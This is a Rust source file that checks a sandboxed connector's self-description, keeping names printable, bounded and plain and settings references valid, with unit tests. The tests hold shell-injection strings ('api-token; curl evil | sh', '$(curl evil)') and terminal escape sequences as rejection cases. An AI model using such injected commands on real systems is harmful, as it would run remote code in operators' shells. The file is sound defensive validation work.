//! The contract a component's self-description must keep before the host acts on it: every
//! string printable and bounded (it reaches terminals, logs and output), setting names plain
//! words (they go into lines an operator is told to type), and every setting it refers to one
//! of its own.

use crate::engine::Connector;
use crate::engine::wit::{ConnectorSpec, CredentialScheme, SettingSpec};
use crate::error::Failure;
use crate::sandbox::http::SandboxHttp;
use crate::sandbox::limits::Limits;
use crate::secrets::is_env_name;
use crate::text::{MAX_MESSAGE_CHARS, printable};

/// The connector's spec, from an instance that has no network, under the run's `limits`.
pub async fn describe(connector: &Connector, limits: Limits) -> Result<ConnectorSpec, Failure> {
    let spec = connector
        .instantiate(SandboxHttp::offline(), limits)
        .await?
        .describe()
        .await?;
    printable_spec(spec)
}

/// Most settings a connector may declare.
const MAX_SETTINGS: usize = 256;

/// The spec with every string made printable and bounded: its names and descriptions reach the
/// terminal (`describe`, error messages) and the output (`vendor`).
fn printable_spec(spec: ConnectorSpec) -> Result<ConnectorSpec, Failure> {
    if spec.settings.len() > MAX_SETTINGS {
        return Err(Failure::Guest(format!(
            "contract violation: `describe` declared {} settings; the limit is {MAX_SETTINGS}",
            spec.settings.len()
        )));
    }
    // Setting names go into the lines an operator is told to type (`-s`, `--secret`): plain
    // words only. Suggested variables that are not variable names are dropped.
    if let Some(bad) = spec.settings.iter().find(|s| !is_setting_name(&s.name)) {
        return Err(Failure::Guest(format!(
            "contract violation: `describe` declared a setting named {:?}; a name is 1 to 64 \
             letters, digits, `-`, `_` or `.`",
            printable(&bad.name, 80)
        )));
    }
    check_references(&spec)?;
    let p = |s: String| printable(&s, MAX_MESSAGE_CHARS);
    Ok(ConnectorSpec {
        name: p(spec.name),
        version: p(spec.version),
        vendor: p(spec.vendor),
        description: p(spec.description),
        settings: spec
            .settings
            .into_iter()
            .map(|s| SettingSpec {
                name: p(s.name),
                description: p(s.description),
                default_value: s.default_value.map(p),
                suggested_env: s
                    .suggested_env
                    .into_iter()
                    .filter(|v| v.len() <= 128 && is_env_name(v))
                    .take(16)
                    .collect(),
                ..s
            })
            .collect(),
        ..spec
    })
}

/// Most resource types a connector may declare.
const MAX_RESOURCE_TYPES: usize = 32;

/// Every setting the spec refers to (base URL, tenant, a credential's origin and user name) is
/// one it declares, and not a secret; resource types are plain words.
fn check_references(spec: &ConnectorSpec) -> Result<(), Failure> {
    let violation = |what: String| {
        Err(Failure::Guest(format!(
            "contract violation: `describe` {what}"
        )))
    };
    let plain = |name: &str| {
        spec.settings
            .iter()
            .any(|s| s.name == name && s.credential.is_none())
    };
    let mut refs: Vec<(&str, &str)> = Vec::new();
    refs.extend(
        spec.base_url_setting
            .as_deref()
            .map(|n| ("base-url-setting", n)),
    );
    refs.extend(
        spec.tenant_setting
            .as_deref()
            .map(|n| ("tenant-setting", n)),
    );
    for s in &spec.settings {
        if let Some(c) = &s.credential {
            refs.push(("a credential's origin-setting", &c.origin_setting));
            if let CredentialScheme::BasicPassword(user) = &c.scheme {
                refs.push(("a credential's user-name setting", user));
            }
        }
    }
    if let Some((what, name)) = refs.into_iter().find(|(_, n)| !plain(n)) {
        return violation(format!(
            "names {:?} as its {what}, which is not one of its non-secret settings",
            printable(name, 80)
        ));
    }
    if spec.resource_types.len() > MAX_RESOURCE_TYPES {
        return violation(format!(
            "declared {} resource types; the limit is {MAX_RESOURCE_TYPES}",
            spec.resource_types.len()
        ));
    }
    if let Some(bad) = spec.resource_types.iter().find(|t| !is_setting_name(t)) {
        return violation(format!(
            "declared a resource type {:?}; a type is 1 to 64 letters, digits, `-`, `_` or `.`",
            printable(bad, 80)
        ));
    }
    Ok(())
}

fn is_setting_name(name: &str) -> bool {
    (1..=64).contains(&name.len())
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::wit::{Credential, SettingType};

    fn spec(name: &str, env: &[&str]) -> ConnectorSpec {
        ConnectorSpec {
            name: "c\x1b[2J".into(),
            version: "0".into(),
            vendor: "V".into(),
            description: String::new(),
            base_url_setting: Some("url".into()),
            tenant_setting: None,
            resource_types: vec![],
            settings: vec![
                SettingSpec {
                    name: name.into(),
                    description: "d".into(),
                    required: true,
                    default_value: None,
                    credential: Some(Credential {
                        scheme: CredentialScheme::Bearer,
                        origin_setting: "url".into(),
                    }),
                    suggested_env: env.iter().map(|e| e.to_string()).collect(),
                    value_type: SettingType::Text,
                    narrows: false,
                },
                SettingSpec {
                    name: "url".into(),
                    description: "u".into(),
                    required: false,
                    default_value: None,
                    credential: None,
                    suggested_env: vec![],
                    value_type: SettingType::Url,
                    narrows: false,
                },
            ],
        }
    }

    #[test]
    fn a_spec_cannot_put_shell_text_into_the_lines_an_operator_is_told_to_type() {
        let err = printable_spec(spec("api-token; curl evil | sh", &[])).unwrap_err();
        assert!(err.message().contains("contract violation"), "{err}");
        let ok = printable_spec(spec(
            "api-token",
            &["GOOD_1", "$(curl evil)", "1BAD", "A B"],
        ))
        .unwrap();
        assert_eq!(ok.settings[0].suggested_env, ["GOOD_1"]);
        assert_eq!(ok.name, "c\u{fffd}[2J");
    }

    #[test]
    fn a_spec_refers_only_to_its_own_plain_settings() {
        let mut s = spec("key", &[]);
        s.tenant_setting = Some("org".into());
        let err = printable_spec(s).unwrap_err();
        assert!(
            err.message().contains("\"org\" as its tenant-setting"),
            "{err}"
        );
        let mut s = spec("key", &[]);
        s.settings[0].credential.as_mut().unwrap().origin_setting = "key".into();
        let err = printable_spec(s).unwrap_err();
        assert!(err.message().contains("origin-setting"), "{err}");
        let mut s = spec("key", &[]);
        s.resource_types = vec!["image\x1b[2J".into()];
        assert!(
            printable_spec(s)
                .unwrap_err()
                .message()
                .contains("resource type")
        );
    }
}
